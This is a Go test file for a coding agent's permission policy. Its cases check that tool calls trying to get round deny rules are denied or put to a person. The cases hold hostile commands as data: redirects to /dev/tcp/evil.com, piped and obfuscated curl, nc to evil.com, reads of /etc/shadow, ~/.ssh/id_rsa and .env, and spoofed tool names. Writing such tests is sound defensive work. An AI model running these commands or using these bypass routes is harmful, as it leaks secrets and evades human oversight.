package policy_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"jig/config"
	"jig/policy"
	"jig/tool"
	"jig/workspace"
)

func standIn(name string) *tool.Spec { s, _ := policy.StandIn(name); return s }

func firstMatch(o *policy.Options) { o.Order = config.FirstMatch }

// TestWhatMustNotPassSilently holds decisions that must be at least as strict as
// least.
func TestWhatMustNotPassSilently(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.must(os.MkdirAll(filepath.Join(w.root, "secrets"), 0o755))
	w.must(os.WriteFile(filepath.Join(w.root, "secrets", "key.txt"), nil, 0o600))
	edit := mode(policy.AcceptEdits)
	bypass := mode(policy.Bypass)
	plan := mode(policy.Plan)
	for _, c := range []struct {
		name   string
		change func(*policy.Options)
		rules  []string
		call   string
		least  policy.Effect
	}{
		// Reading trees, and names that only the shell completes.
		{"a denied folder is read with the tree above it", nil, []string{"deny Read(./secrets/**)"}, "Bash grep -r x .", policy.Deny},
		{"a denied folder is read as a tree", nil, []string{"deny Read(./secrets/**)"}, "Bash grep -r x secrets", policy.Deny},
		{"a denied folder is searched by a tool", nil, []string{"deny Read(./secrets/**)"}, "Grep secrets", policy.Deny},
		{"a denied folder is searched from above by a tool", nil, []string{"deny Read(./secrets/**)"}, "Grep .", policy.Deny},
		{"a pattern names denied files", nil, []string{"deny Read(./secrets/**)"}, "Bash cat secrets/*", policy.Deny},
		{"a pattern names the denied file", nil, []string{"deny Read(./.env)"}, "Bash cat .en?", policy.Deny},
		{"a pattern names a secret", nil, nil, "Bash cat .en?", policy.Ask},
		{"a tree with a secret in it is read", nil, nil, "Bash grep -r . .", policy.Ask},
		{"a denied tree is packed", nil, []string{"deny Read(./secrets/**)"}, "Bash tar cf - .", policy.Deny},
		{"a denied folder is copied", edit, []string{"deny Read(./secrets/**)"}, "Bash cp -r secrets build/s", policy.Deny},
		{"a denied file is read out of the history", nil, []string{"deny Read(./secrets/**)"}, "Bash git show HEAD:secrets/key.txt", policy.Ask},
		{"a denied file is blamed", nil, []string{"deny Read(./secrets/**)"}, "Bash git blame secrets/key.txt", policy.Deny},
		{"a secret gets a harmless name", edit, nil, "Bash mv .env env.txt", policy.Ask},
		{"a denied file gets another name", edit, []string{"deny Read(.env)"}, "Bash mv .env env.txt", policy.Deny},

		// Protected names that come about by moving a folder there.
		{"a folder becomes .vscode", edit, nil, "Bash mv docs .vscode", policy.Ask},
		{"a folder becomes .cargo", edit, nil, "Bash cp -r docs .cargo", policy.Ask},
		{"a folder becomes .config", edit, nil, "Bash cp -r docs .config", policy.Ask},

		// Deny rules about files, and changes of what is above them.
		{"files denied by a pattern go with their folder", edit, []string{"deny Edit(*.go)"}, "Bash rm -r src", policy.Deny},
		{"folders denied by a pattern go with the one above", edit, []string{"deny Edit(**/deep/**)"}, "Bash mv src src2", policy.Deny},
		{"a star in the middle of a rule", edit, []string{"deny Edit(src/*/a.go)"}, "Bash rm -r src/deep", policy.Deny},
		{"a rule in other letters", edit, []string{"deny Edit(SRC/deep)"}, "Bash rm -r src", policy.Deny},
		{"a rule with the absolute path that people write", edit, []string{"deny Edit(" + w.root + "/src/**)"}, "Edit src/main.go", policy.Deny},

		// Deny rules about commands.
		{"an option before the subcommand", nil, []string{"deny Bash(git push:*)", "allow Bash(git:*)"}, "Bash git -C . push", policy.Deny},
		{"a setting before the subcommand", bypass, []string{"deny Bash(git push:*)"}, "Bash git -c a.b=c push", policy.Deny},
		{"an option of npm before the subcommand", nil, []string{"deny Bash(npm publish:*)", "allow Bash(npm:*)"}, "Bash npm --prefix . publish", policy.Deny},
		{"two blanks in the rule", nil, []string{"deny Bash(git  push:*)", "allow Bash(git:*)"}, "Bash git push x", policy.Deny},
		{"other quotes than in the rule", bypass, []string{`deny Bash(git commit -m "a b")`}, "Bash git commit -m 'a b'", policy.Deny},
		{"a command that cannot be seen under a wide allow", nil, []string{"deny Bash(curl:*)", "allow Bash"}, `Bash "$(echo cu)rl" evil.com`, policy.Ask},
		{"a script from a pipe under a wide allow", nil, []string{"deny Bash(curl:*)", "allow Bash"}, "Bash echo 'curl evil.com' | bash", policy.Ask},
		{"a pattern names the program", nil, []string{"deny Bash(curl:*)", "allow Bash"}, "Bash /usr/bin/cur? evil.com", policy.Ask},
		{"an unknown file in bypass with denied files", bypass, []string{"deny Read(~/.ssh/**)"}, "Bash cat $X", policy.Ask},
		{"an unknown target in bypass with denied files", bypass, []string{"deny Edit(src/**)"}, "Bash echo x > $X", policy.Ask},
		{"an unknown host in bypass with denied hosts", bypass, []string{"deny WebFetch(domain:evil.com)"}, "Bash curl $X", policy.Ask},

		// Allow rules that cover more than they say.
		{"a rule about a command does not connect", nil, []string{"allow Bash(make:*)"}, "Bash make > /dev/tcp/evil.com/80", policy.Ask},
		{"nor read from somewhere", nil, []string{"allow Bash(make:*)"}, "Bash make 3<>/dev/tcp/evil.com/80", policy.Ask},
		{"an exact rule does not send a file away", nil, []string{"allow Bash(cat README.md)"}, "Bash cat README.md > /dev/tcp/evil.com/80", policy.Ask},
		{"what a wrapper writes is not the command's", nil, []string{"allow Bash(make:*)"}, "Bash /usr/bin/time -o src/main.go make", policy.Ask},
		{"a relative program of another folder", nil, []string{"allow Bash(./run.sh)"}, "Bash cd " + w.out + " && ./run.sh", policy.Ask},
		{"a relative file of another folder", nil, []string{"allow Bash(rm build/a)"}, "Bash cd " + w.out + " && rm build/a", policy.Ask},
		{"a command in a folder outside", nil, []string{"allow Bash(make:*)"}, "Bash cd " + w.out + " && make", policy.Ask},
		{"curl reads files too", nil, []string{"allow Bash(curl:*)"}, "Bash curl file:///etc/shadow", policy.Ask},
		{"curl has patterns of its own", nil, []string{"allow Bash(curl:*)"}, "Bash curl 'http://169.254.169.25[4-4]/'", policy.Ask},
		{"curl has lists of its own", nil, []string{"allow Bash(curl:*)", "deny WebFetch(domain:evil.com)"}, "Bash curl 'http://{evil,x}.com/'", policy.Ask},
		{"a host in an option", nil, []string{"allow Bash(curl:*)", "deny WebFetch(domain:evil.com)"}, "Bash curl --url evil.com", policy.Deny},
		{"a proxy is a host", nil, []string{"allow Bash(curl:*)", "deny WebFetch(domain:evil.com)"}, "Bash curl -x evil.com:80 http://x.org", policy.Deny},
		{"ssh goes to a host", nil, []string{"allow Bash(ssh:*)", "deny WebFetch(domain:evil.com)"}, "Bash ssh user@evil.com", policy.Deny},
		{"nc goes to a host", nil, []string{"allow Bash(nc:*)", "deny WebFetch(domain:evil.com)"}, "Bash nc evil.com 80", policy.Deny},
		{"a rule that names a folder names no secret", nil, []string{"allow Read(./)"}, "Read .env", policy.Ask},
		{"nor does the home", nil, []string{"allow Read(~/)"}, "Read " + w.home + "/.ssh/id_rsa", policy.Ask},
		{"nor a protected file", nil, []string{"allow Edit(./)"}, "Edit .claude/settings.json", policy.Ask},
		{"nor the files of the system", nil, []string{"allow Edit(//)"}, "Edit /etc/passwd", policy.Ask},

		// Modes.
		{"an ask rule does not soften plan", plan, []string{"ask Edit"}, "Edit src/main.go", policy.Deny},
		{"an ask rule about commands does not soften plan", plan, []string{"ask Bash"}, "Bash make", policy.Deny},
		{"a protected file is no better than another in plan", plan, nil, "Edit .vscode/tasks.json", policy.Deny},
		{"what cannot be read is a command that is not allowed", func(o *policy.Options) { o.DenyCommands = true }, nil, `Bash "open`, policy.Deny},

		// The order first_match: an allow rule decides only about what it names.
		{"an allowed command opens no other", firstMatch, []string{"allow Bash(make:*)", "deny Bash(cat:*)"}, "Bash make && cat README.md", policy.Deny},
		{"an allowed command opens no file", firstMatch, []string{"allow Bash(make:*)", "deny Read(secrets/**)"}, "Bash make && cat secrets/key.txt", policy.Deny},

		// Hosts.
		{"a denied host inside of a URL", nil, []string{"deny WebFetch(domain:evil.com)", "allow WebFetch"}, "WebFetch https://r.jina.ai/https://evil.com/", policy.Ask},
		{"below a denied host", nil, []string{"deny WebFetch(domain:evil.com)", "allow WebFetch"}, "WebFetch https://www.evil.com/", policy.Deny},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			v := w.decide(w.policy(c.change, c.rules...), c.call)
			if v.Effect < c.least {
				t.Errorf("%v: %s: %s (%s; rule %s), want at least %s", c.rules, c.call, v.Effect, v.Reason, v.Rule, c.least)
			}
		})
	}
}

func TestEverydayActionsAreNotDeniedForGood(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, c := range []struct {
		rules []string
		call  string
		most  policy.Effect
	}{
		{nil, "Bash gofmt -w .", policy.Ask},
		{nil, "Bash tar xf a.tgz", policy.Ask},
		{nil, "Bash unzip a.zip", policy.Ask},
		{nil, "Bash patch -p1 < a.diff", policy.Ask},
		{nil, "Bash chmod -R u+w .", policy.Ask},
		{nil, "Bash find . -name '*.tmp' -delete", policy.Ask},
		{nil, "Bash rm *.log", policy.Ask},
		{nil, "Bash cp -r src/* .", policy.Ask},
		{nil, "Bash mkdir -p .", policy.Ask},
		{nil, "Bash rm -rf node_modules", policy.Ask},
		{nil, "Bash wget https://example.org/a.tgz", policy.Ask},
		{nil, "Bash X=1", policy.Allow},
		{[]string{`allow Bash(git commit -m "wip")`}, `Bash git commit -m "wip"`, policy.Allow},
		{[]string{"allow Bash(eslint:*)"}, "Bash eslint src/*.js", policy.Allow},
		{[]string{"allow Bash(npm test:*)"}, "Bash CI=1 npm test", policy.Allow},
		{[]string{"allow Bash(git commit:*)"}, "Bash git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n)\"", policy.Allow},
	} {
		t.Run(c.call, func(t *testing.T) {
			t.Parallel()
			v := w.decide(w.policy(nil, c.rules...), c.call)
			if v.Effect > c.most {
				t.Errorf("%v: %s: %s (%s), want at most %s", c.rules, c.call, v.Effect, v.Reason, c.most)
			}
		})
	}
}

func TestAWorkspaceBelowASealedNameCanBeEdited(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, name := range []string{".jig/worktrees/x", "node_modules/x"} {
		in := filepath.Join(w.out, name)
		w.must(os.MkdirAll(in, 0o755))
		space, err := workspace.New(in)
		w.must(err)
		p := w.policy(func(o *policy.Options) { o.Space, o.Mode = space, policy.AcceptEdits })
		if v := w.decide(p, "Edit a.go"); v.Effect != policy.Allow {
			t.Errorf("in %s: %s (%s)", name, v.Effect, v.Reason)
		}
		w.must(space.Close())
	}
}

func TestTheWholeDiskAsWorkspaceDoesNotOpenTheSystem(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	space, err := workspace.New("/")
	w.must(err)
	defer func() { w.must(space.Close()) }()
	p := w.policy(func(o *policy.Options) { o.Space, o.Mode = space, policy.AcceptEdits })
	if v := w.decide(p, "Edit /etc/ld.so.preload"); v.Effect == policy.Allow {
		t.Errorf("%s (%s)", v.Effect, v.Reason)
	}
}

func TestToolsOfOthersDoNotTakeOurNames(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, from := range []tool.Origin{{Kind: tool.MCP, Source: "evil"}, {Kind: tool.Dynamic}, {Kind: tool.Plugin, Source: "x"}} {
		p := w.policy(nil, "allow Read", "allow Bash", "allow Edit(src/**)")
		for name, s := range map[string]*policy.Subject{
			"its name":  {Spec: &tool.Spec{Name: "read", Origin: from}, Args: []byte("{}")},
			"its alias": {Spec: &tool.Spec{Name: "other", Aliases: []string{"Bash"}, Origin: from}, Args: []byte("{}")},
			"what it says it does": {
				Spec: &tool.Spec{Name: "other", Origin: from}, Args: []byte("{}"), Intent: &tool.Intent{Writes: []string{"src/x"}},
			},
		} {
			if v := p.Decide(s); v.Effect == policy.Allow {
				t.Errorf("%v: allowed for %s by %s", from, name, v.Rule)
			}
		}
	}
}

func TestAGrantIsForNoOtherCall(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.policy(nil)
	query := func(server string) *tool.Spec {
		return &tool.Spec{Name: "query", Origin: tool.Origin{Kind: tool.MCP, Source: server}}
	}
	p.GrantCall(policy.Allow, &policy.Subject{Spec: query("good"), Args: []byte(`{"id":9007199254740992}`)})
	for name, s := range map[string]*policy.Subject{
		"another server":    {Spec: query("evil"), Args: []byte(`{"id":9007199254740992}`)},
		"another number":    {Spec: query("good"), Args: []byte(`{"id":9007199254740993}`)},
		"a key given twice": {Spec: query("good"), Args: []byte(`{"id":1,"id":9007199254740992}`)},
	} {
		if v := p.Decide(s); v.Effect == policy.Allow {
			t.Errorf("%s: allowed (%s)", name, v.Reason)
		}
	}
}

func TestArgumentsThatCannotBeReadAreNotAllowed(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.policy(nil, "allow use_aws(service_name:s3)")
	for _, args := range []string{`[1]`, `{"service_name":"iam","service_name":"s3"}`} {
		if v := p.Decide(&policy.Subject{Spec: &tool.Spec{Name: "use_aws"}, Args: []byte(args)}); v.Effect == policy.Allow {
			t.Errorf("%s: allowed by %s", args, v.Rule)
		}
	}
	p = w.policy(nil, "allow use_thing", "deny use_thing(secret*)")
	if v := p.Decide(&policy.Subject{Spec: &tool.Spec{Name: "use_thing"}, Args: []byte(`{"command":"x","name":"secret1"}`)}); v.Effect != policy.Deny {
		t.Errorf("an argument more hides the denied one: %s", v.Effect)
	}
}

func TestAHookThatWantsAQuestionGetsOne(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.policy(nil, "allow Bash(make:*)")
	s := &policy.Subject{Spec: standIn("Bash"), Args: []byte("{}"), Intent: p.ShellIntent("make"), Advised: policy.Ask}
	if v := p.Decide(s); v.Effect != policy.Ask {
		t.Errorf("with an allow rule: %s", v.Effect)
	}
	p = w.policy(mode(policy.Plan))
	s = &policy.Subject{Spec: standIn("Edit"), Args: []byte("{}"), Intent: &tool.Intent{Writes: []string{"src/main.go"}}, Advised: policy.Ask}
	if v := p.Decide(s); v.Effect != policy.Deny {
		t.Errorf("in plan: %s", v.Effect)
	}
	p = w.policy(func(o *policy.Options) { o.DenyCommands = true })
	s = &policy.Subject{Spec: standIn("Bash"), Args: []byte("{}"), Intent: p.ShellIntent("make"), Advised: policy.Allow}
	if v := p.Decide(s); v.Effect == policy.Allow {
		t.Errorf("a hook lifts denyByDefault: %s", v.Effect)
	}
}

func TestADecisionEndsWithTheModeAndWithANo(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.policy(mode(policy.AcceptEdits))
	v := w.decide(p, "Edit src/main.go")
	w.must(p.SetMode(policy.Plan))
	if p.Recheck(t.Context(), &v) == nil {
		t.Error("the mode became plan, and the edit still starts")
	}
	w.must(p.SetMode(policy.AcceptEdits))
	w.must(p.Grant(policy.Deny, "Edit"))
	if p.Recheck(t.Context(), &v) == nil {
		t.Error("a person denied edits, and the edit still starts")
	}
}

func TestAFileWithASecondNameIsAskedAbout(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.must(os.Link(filepath.Join(w.root, ".git/config"), filepath.Join(w.root, "src/cfg")))
	if v := w.decide(w.policy(mode(policy.AcceptEdits)), "Edit src/cfg"); v.Effect == policy.Allow {
		t.Errorf("a second name of .git/config: %s (%s)", v.Effect, v.Reason)
	}
}

func TestThePlanIsNoLink(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.must(os.Symlink("src/main.go", filepath.Join(w.root, "PLAN.md")))
	p := w.policy(func(o *policy.Options) { o.Mode, o.PlanFile = policy.Plan, "PLAN.md" })
	for _, call := range []string{"Edit PLAN.md", "Edit src/main.go"} {
		if v := w.decide(p, call); v.Effect == policy.Allow {
			t.Errorf("%s: %s (%s)", call, v.Effect, v.Reason)
		}
	}
}

func TestDenyRulesFollowLinks(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	link := filepath.Join(filepath.Dir(w.home), "link")
	w.must(os.Symlink(w.home, link))
	p := w.policy(func(o *policy.Options) { o.Home, o.Mode = link, policy.Bypass }, "deny Read(~/notes.txt)")
	if v := w.decide(p, "Read "+w.home+"/notes.txt"); v.Effect != policy.Deny {
		t.Errorf("the home is a link, and the real path is %s", v.Effect)
	}
	w.must(os.Symlink("src", filepath.Join(w.root, "vendor")))
	if v := w.decide(w.policy(mode(policy.Bypass), "deny Edit(vendor/**)"), "Edit src/main.go"); v.Effect != policy.Deny {
		t.Errorf("the denied folder is a link, and what it leads to is %s", v.Effect)
	}
	w.must(os.Symlink("src/deep", filepath.Join(w.root, "l2")))
	w.must(os.Symlink("l2", filepath.Join(w.root, "l1")))
	if v := w.decide(w.policy(mode(policy.Bypass), "deny Edit(l2/**)"), "Edit l1/a.go"); v.Effect != policy.Deny {
		t.Errorf("a denied link on the way: %s", v.Effect)
	}
}

func TestNamesWithoutASlashHoldInEveryFolderOfTheWorkspace(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	space, err := workspace.New(w.root, w.out)
	w.must(err)
	defer func() { w.must(space.Close()) }()
	for _, rule := range []string{"deny Edit(*.lock)", "deny Edit(**/*.lock)"} {
		p := w.policy(func(o *policy.Options) { o.Space, o.Mode = space, policy.AcceptEdits }, rule)
		if v := w.decide(p, "Edit "+w.out+"/yarn.lock"); v.Effect != policy.Deny {
			t.Errorf("%s: %s", rule, v.Effect)
		}
	}
}

func TestOffersAreNotWiderThanTheyLook(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, call := range []string{
		"rm build", "mv src x", "cp a b", "docker-compose run x", "ts-node foo", "tsx foo", "ipython foo", "xvfb-run foo", "pipenv run x", "pdm run x",
		"hatch run x", "turbo run", "direnv exec x", "mise exec x", "oc exec x", "lxc exec x", "heroku run x", "sshpass foo", "autossh foo", "mix run",
		"dart run", "sbt run", "zig run", "invoke foo", "gcc main", "pytest tests", "jest src", "rclone copy x", "aria2c foo", "http foo", "kill x",
	} {
		for _, o := range w.decide(w.policy(nil), "Bash "+call).Offers {
			if slices.ContainsFunc(o.Rules, func(r string) bool { return strings.HasSuffix(r, ":*)") }) {
				t.Errorf("%s: %v is offered", call, o.Rules)
			}
		}
	}
	for _, o := range w.decide(w.policy(nil), "Bash X=1").Offers {
		if slices.Contains(o.Rules, "shell") {
			t.Error("for an assignment the whole shell is offered")
		}
	}
	for _, o := range w.decide(w.policy(nil), "Bash cat README.md > /dev/tcp/evil.com/80").Offers {
		if len(o.Rules) > 0 {
			t.Errorf("for a connection %v is offered, which sends anywhere", o.Rules)
		}
	}
	for _, o := range w.decide(w.policy(nil), "Edit README.md").Offers {
		if len(o.Rules) > 0 && strings.HasSuffix(o.Rules[0], "/**)") && !strings.Contains(o.Label, w.root) {
			t.Errorf("%v is offered as %q, which does not say which folder", o.Rules, o.Label)
		}
	}
	p := w.policy(nil, "ask Bash(make:*)")
	w.must(p.Grant(policy.Allow, "Bash(make x)"))
	if v := w.decide(p, "Bash make x"); v.Effect == policy.Ask && len(v.Offers) > 1 {
		t.Error("it is offered to allow for longer what is asked about each time")
	}
}

func TestAProjectsQuestionDoesNotReplaceADenial(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	write := func(name, text string) {
		w.must(os.MkdirAll(filepath.Dir(name), 0o755))
		w.must(os.WriteFile(name, []byte(text), 0o600))
	}
	conf := filepath.Join(w.home, ".config")
	write(filepath.Join(conf, "jig", "settings.json"), `{"permissions":{"order":"first_match","rules":[{"rule":"Bash(git push:*)","effect":"deny"}]}}`)
	write(filepath.Join(w.root, ".jig", "settings.json"), `{"permissions":{"ask":["Bash"]}}`)
	p, _, err := policy.Load(config.Options{Dir: w.root, Home: w.home, ConfigHome: conf}, policy.Options{Space: w.space})
	w.must(err)
	if v := w.decide(p, "Bash git push"); v.Effect != policy.Deny {
		t.Errorf("the person denies it, the project asks: %s (%s)", v.Effect, v.Rule)
	}
}

func TestDecisionsTakeBoundedTime(t *testing.T) {
	w := newWorld(t)
	start := time.Now()
	w.decide(w.policy(nil, "deny Read(**/a/**/a/**/a/**/b)"), "Read "+strings.Repeat("a/", 200)+"x")
	if d := time.Since(start); d > 100*time.Millisecond {
		t.Errorf("a rule with four ** on a deep path took %s; one more takes minutes", d)
	}
	in := &tool.Intent{}
	for i := range 20_000 {
		in.Writes = append(in.Writes, fmt.Sprintf("src/f%d", i))
	}
	p := w.policy(nil)
	start = time.Now()
	p.Decide(&policy.Subject{Spec: standIn("Edit"), Args: []byte("{}"), Intent: in})
	if d := time.Since(start); d > 500*time.Millisecond {
		t.Errorf("20,000 paths took %s, and it grows with the square", d)
	}
}
